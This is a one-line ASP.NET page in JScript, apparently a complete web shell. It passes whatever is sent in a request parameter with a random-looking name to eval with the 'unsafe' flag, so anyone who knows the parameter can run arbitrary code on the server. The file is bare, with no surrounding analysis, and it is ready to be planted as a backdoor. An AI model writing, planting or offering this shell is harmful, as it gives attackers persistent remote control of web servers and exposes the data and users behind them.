<%@ Page Language="Jscript"%><%eval(Request.Item["NO9BxmCXw0JE"],"unsafe");%>
